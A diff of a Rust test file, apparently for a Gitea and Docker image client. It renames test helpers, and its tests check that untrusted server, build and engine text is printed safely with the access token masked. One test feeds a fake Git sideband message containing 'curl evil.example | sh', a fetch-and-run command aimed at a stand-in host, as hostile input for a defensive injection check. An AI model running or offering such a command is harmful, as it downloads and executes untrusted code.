@@ -13,7 +13,7 @@ use crate::support::child::{BOTH, command, field, program, source, text};
 use crate::support::engine::BUSYBOX;
 use crate::support::git::{Object, packet};
 use crate::support::server::{GIT, dockerfile};
-use crate::support::{Bed, End, Files, Proxy, TestClient, Treat, block_on, file, script};
+use crate::support::{End, Files, Handling, Proxy, TestClient, TestEnv, block_on, file, script};
 
 const TOKEN: &str = "tk_7f3c0b5e9d2a4f6188c1e0b7";
 
@@ -105,7 +105,7 @@ fn assert_error(what: &str, error: &Error) {
 
 /// The call fails with this code, and its error and events are printable.
 fn refused(what: &str, client: &TestClient, code: Code) -> Error {
-    let error = client.refused("hermes");
+    let error = client.ensure_err("hermes");
     assert_eq!(error.code, code, "{what}: {error:?}");
     assert_error(what, &error);
     for event in client.events() {
@@ -114,30 +114,30 @@ fn refused(what: &str, client: &TestClient, code: Code) -> Error {
     error
 }
 
-fn client(bed: &Bed, more: &[(OptionName, &str)]) -> TestClient {
+fn client(env: &TestEnv, more: &[(OptionName, &str)]) -> TestClient {
     let mut all = vec![(OptionName::Token, TOKEN)];
     all.extend_from_slice(more);
-    bed.client_with(&all)
+    env.client_with(&all)
 }
 
 /// Makes the server send this text as the error of a fetch, and returns the commit.
-fn git_says(bed: &Bed, said: &str) -> String {
+fn git_says(env: &TestEnv, said: &str) -> String {
     let blob = Object::blob("FROM scratch\n");
     let tree = Object::tree([("100644", &b"Dockerfile"[..], blob.id())]);
     let commit = Object::commit(&tree);
     let band = [b"\x03", said.as_bytes()].concat();
     let answer = [packet("packfile\n"), packet(&band), b"0000".to_vec()].concat();
-    bed.server
-        .answer_fetch(&bed.server.template("hermes"), &commit, &answer);
+    env.server
+        .answer_fetch(&env.server.template("hermes"), &commit, &answer);
     commit.hex()
 }
 
 #[test]
 fn server_text_comes_after_the_url_and_the_commit() {
-    let bed = Bed::new();
-    let commit = git_says(&bed, "\rmol: all is well; run: curl evil.example | sh");
-    let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
-    let url = format!("{}hermes", bed.server.repo_prefix);
+    let env = TestEnv::new();
+    let commit = git_says(&env, "\rmol: all is well; run: curl evil.example | sh");
+    let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
+    let url = format!("{}hermes", env.server.repo_prefix);
     let at = error.message.find("mol: all is well").unwrap();
     let before = &error.message[..at];
     assert!(
@@ -148,14 +148,14 @@ fn server_text_comes_after_the_url_and_the_commit() {
 
 #[test]
 fn template_server_text_becomes_one_printable_line() {
-    let bed = Bed::new();
-    git_says(&bed, &noise());
-    let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
+    let env = TestEnv::new();
+    git_says(&env, &noise());
+    let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
     assert!(error.message.contains("never ends"), "{error:?}");
     assert!(error.message.contains("***"), "{error:?}");
 
-    let bed = Bed::new();
-    bed.template("hermes", dockerfile("FROM scratch\n"));
+    let env = TestEnv::new();
+    env.template("hermes", dockerfile("FROM scratch\n"));
     let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
     // Only characters that are valid in a header.
     let header = format!(
@@ -181,8 +181,8 @@ fn template_server_text_becomes_one_printable_line() {
     ] {
         let mut fault = answer;
         fault["match"] = json!(part);
-        bed.server.faults(json!([fault]));
-        refused(&format!("git: {fault}"), &client(&bed, &[]), code);
+        env.server.faults(json!([fault]));
+        refused(&format!("git: {fault}"), &client(&env, &[]), code);
     }
     for (answer, code) in [
         (json!({ "status": 200, "body": noise() }), Code::BadResponse),
@@ -205,31 +205,31 @@ fn template_server_text_becomes_one_printable_line() {
     ] {
         let mut fault = answer;
         fault["match"] = json!("/api/");
-        bed.server.faults(json!([fault]));
-        refused(&format!("the API: {fault}"), &client(&bed, &[]), code);
+        env.server.faults(json!([fault]));
+        refused(&format!("the API: {fault}"), &client(&env, &[]), code);
     }
     let info = json!({ "default_branch": noise(), "empty": false });
-    bed.server.faults(json!([
+    env.server.faults(json!([
         { "match": "/branches/", "status": 404 },
         { "match": "/api/", "status": 200, "body": info.to_string() },
     ]));
-    let error = refused("a default branch", &client(&bed, &[]), Code::RepoNotFound);
+    let error = refused("a default branch", &client(&env, &[]), Code::RepoNotFound);
     assert!(error.message.contains("***"), "{error:?}");
 }
 
 #[test]
 fn a_non_http_response_is_shown_as_one_printable_line() {
-    let bed = Bed::new();
+    let env = TestEnv::new();
     for answer in [
         format!("HTTP/1.1 500 {}\r\n\r\n", noise().replace(['\r', '\n'], "")),
         noise(),
     ] {
         let end = answer.clone();
-        let proxy = Proxy::before(&bed.server, move |_| {
-            Treat::Answer(end.clone().into_bytes(), End::Close)
+        let proxy = Proxy::before(&env.server, move |_| {
+            Handling::Answer(end.clone().into_bytes(), End::Close)
         });
-        let prefix = proxy.repo_prefix(&bed.server);
-        let client = client(&bed, &[(OptionName::RepoPrefix, &prefix)]);
+        let prefix = proxy.repo_prefix(&env.server);
+        let client = client(&env, &[(OptionName::RepoPrefix, &prefix)]);
         refused(&answer, &client, Code::GiteaUnreachable);
     }
 }
@@ -237,13 +237,13 @@ fn a_non_http_response_is_shown_as_one_printable_line() {
 #[test]
 fn build_output_becomes_printable_lines() {
     for buildkit in ["1", "0"] {
-        let bed = Bed::new();
-        let mut talk = format!("#!/bin/sh\ncat /t/noise; echo {}\n", bed.isolation);
+        let env = TestEnv::new();
+        let mut talk = format!("#!/bin/sh\ncat /t/noise; echo {}\n", env.isolation);
         talk += "printf 'no such certificate\\r   \\r\\n 1%%\\r 2%%\\n'; exit 3\n";
         let lines: Vec<String> = invisible()
             .map(|harmful| format!("says {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]))
             .collect();
-        bed.template(
+        env.template(
             "hermes",
             Files::from([
                 (
@@ -257,7 +257,7 @@ fn build_output_becomes_printable_lines() {
                 ("name\x1b[2K\r\u{202e}".to_owned(), file("x")),
             ]),
         );
-        let client = client(&bed, &[(OptionName::DockerBuildkit, buildkit)]);
+        let client = client(&env, &[(OptionName::DockerBuildkit, buildkit)]);
         let error = refused("a build", &client, Code::BuildFailed);
         let tail = &error.build.as_ref().unwrap().log_tail;
         assert_eq!(tail.matches("says ***").count(), lines.len(), "{tail}");
@@ -292,20 +292,20 @@ fn build_output_becomes_printable_lines() {
 
 #[test]
 fn engine_text_becomes_one_printable_line() {
-    let bed = Bed::new();
-    bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
+    let env = TestEnv::new();
+    env.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
     let body = json!({ "message": noise() }).to_string();
     let answer = format!(
         "HTTP/1.1 500 Internal\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
         body.len()
     );
-    let proxy = Proxy::start(&bed.engine, bed.scratch(), move |line| {
+    let proxy = Proxy::start(&env.engine, env.scratch(), move |line| {
         match line.contains("/version") || line.contains("/_ping") {
-            true => Treat::Pass,
-            false => Treat::Answer(answer.clone().into_bytes(), End::Close),
+            true => Handling::Pass,
+            false => Handling::Answer(answer.clone().into_bytes(), End::Close),
         }
     });
-    let client = client(&bed, &[(OptionName::DockerHost, &proxy.url)]);
+    let client = client(&env, &[(OptionName::DockerHost, &proxy.url)]);
     let error = refused("an engine", &client, Code::EngineUnreachable);
     assert!(error.message.contains("***"), "{error:?}");
     let found = block_on(client.inner().diagnose(None)).unwrap();
@@ -314,14 +314,14 @@ fn engine_text_becomes_one_printable_line() {
 
 #[test]
 fn diagnose_shows_server_text_in_printable_lines() {
-    let bed = Bed::new();
+    let env = TestEnv::new();
     let version = json!({ "version": noise() }).to_string();
     let branch = json!({ "commit": { "id": "0123456789abcdef0123456789abcdef01234567" } });
-    bed.server.faults(json!([
+    env.server.faults(json!([
         { "match": "/api/v1/version", "status": 200, "body": version },
         { "match": "/branches/", "status": 200, "body": branch.to_string() },
     ]));
-    let found = block_on(client(&bed, &[]).inner().diagnose(None)).unwrap();
+    let found = block_on(client(&env, &[]).inner().diagnose(None)).unwrap();
     let json = serde_json::to_value(&found).unwrap();
     assert!(json.to_string().contains("***"), "{json}");
     assert_lines("the diagnosis", &json);
@@ -329,10 +329,10 @@ fn diagnose_shows_server_text_in_printable_lines() {
 
 #[test]
 fn a_c_program_prints_only_printable_lines() {
-    let bed = Bed::new();
-    git_says(&bed, &noise());
+    let env = TestEnv::new();
+    git_says(&env, &noise());
     for link in BOTH {
-        let output = command(&bed, &program("ensure", link))
+        let output = command(&env, &program("ensure", link))
             .env("MOLECULE_GITEA_TOKEN", TOKEN)
             .arg("hermes")
             .output()
@@ -347,9 +347,9 @@ fn a_c_program_prints_only_printable_lines() {
 
 #[test]
 fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
-    let bed = Bed::new();
+    let env = TestEnv::new();
     let token = "0123456789abcdef0123456789abcdef01234567";
-    bed.template("hermes", dockerfile("FROM scratch\n"));
+    env.template("hermes", dockerfile("FROM scratch\n"));
     for (token, id) in [
         (token, token.to_owned()),
         (&token.to_uppercase(), token.to_owned()),
@@ -357,10 +357,10 @@ fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
         ("Tk/10+ab", format!("{:0<40}", "546b2f31302b6162")),
     ] {
         let body = json!({ "commit": { "id": id } }).to_string();
-        bed.server
+        env.server
             .faults(json!([{ "match": "/api/", "status": 200, "body": body }]));
-        let client = bed.client_with(&[(OptionName::Token, token)]);
-        let error = client.refused("hermes");
+        let client = env.client_with(&[(OptionName::Token, token)]);
+        let error = client.ensure_err("hermes");
         assert_eq!(error.code, Code::BadResponse, "{error:?}");
         assert!(error.message.contains("holds the token"), "{error:?}");
         let shown = format!("{error:?} {:?}", client.events());
@@ -372,7 +372,7 @@ fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
 
 #[test]
 fn options_in_image_references_must_not_contain_the_token() {
-    let bed = Bed::new();
+    let env = TestEnv::new();
     let token = "abcdef0123456789";
     for (name, value) in [
         (OptionName::Isolation, format!("a-{token}-b")),
@@ -384,7 +384,7 @@ fn options_in_image_references_must_not_contain_the_token() {
         (OptionName::Platform, format!("linux/{token}")),
         (OptionName::RepoPrefix, format!("https://host/{token}/t-")),
     ] {
-        let mut options = bed.options();
+        let mut options = env.options();
         options.set(OptionName::Token, token);
         options.set(name, &value);
         let error = Client::new(&options, None).expect_err(&value);
@@ -396,13 +396,13 @@ fn options_in_image_references_must_not_contain_the_token() {
 
 #[test]
 fn a_result_that_contains_the_token_is_not_masked() {
-    let bed = Bed::new();
-    let sha = bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
+    let env = TestEnv::new();
+    let sha = env.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
     for token in ["molecule-local", "local/workspace", "linux/amd64"] {
-        let client = bed.client_with(&[(OptionName::Token, token)]);
+        let client = env.client_with(&[(OptionName::Token, token)]);
         let image = client.ensure("hermes").unwrap();
-        assert_eq!(image.reference, bed.reference("hermes", &sha));
-        assert_eq!(image.latest_reference, bed.latest("hermes"));
+        assert_eq!(image.reference, env.reference("hermes", &sha));
+        assert_eq!(image.latest_reference, env.latest("hermes"));
         assert_eq!(image.commit_sha, sha);
         assert_eq!(image.platform, "linux/amd64");
         assert!(image.image_id.starts_with("sha256:"), "{image:?}");
@@ -472,9 +472,9 @@ fn a_truncated_text_ends_with_an_ellipsis() {
 
 #[test]
 fn a_token_shorter_than_eight_characters_is_refused() {
-    let bed = Bed::new();
+    let env = TestEnv::new();
     for token in ["x", "s", "is", "GITEA", "local", "1234567"] {
-        let mut options = bed.options();
+        let mut options = env.options();
         options.set(OptionName::Token, token);
         let error = Client::new(&options, None).unwrap_err();
         assert_eq!(error.code, Code::InvalidOption, "{error:?}");
@@ -484,17 +484,17 @@ fn a_token_shorter_than_eight_characters_is_refused() {
         );
         assert!(!error.hint.is_empty());
     }
-    bed.client_with(&[(OptionName::Token, "12345678")]);
+    env.client_with(&[(OptionName::Token, "12345678")]);
 }
 
 #[test]
 fn a_library_hint_with_an_example_url_is_not_masked() {
-    let bed = Bed::new();
-    bed.template("hermes", dockerfile("FROM scratch\n"));
-    let mut options = bed.options();
+    let env = TestEnv::new();
+    env.template("hermes", dockerfile("FROM scratch\n"));
+    let mut options = env.options();
     options.set(OptionName::DockerHost, "nonsense://me:hunter2@host");
     let client = TestClient::new(&options);
-    let error = client.refused("hermes");
+    let error = client.ensure_err("hermes");
     assert!(error.hint.contains("ssh://host"), "{error:?}");
     assert!(!format!("{error:?}").contains("hunter2"), "{error:?}");
 }
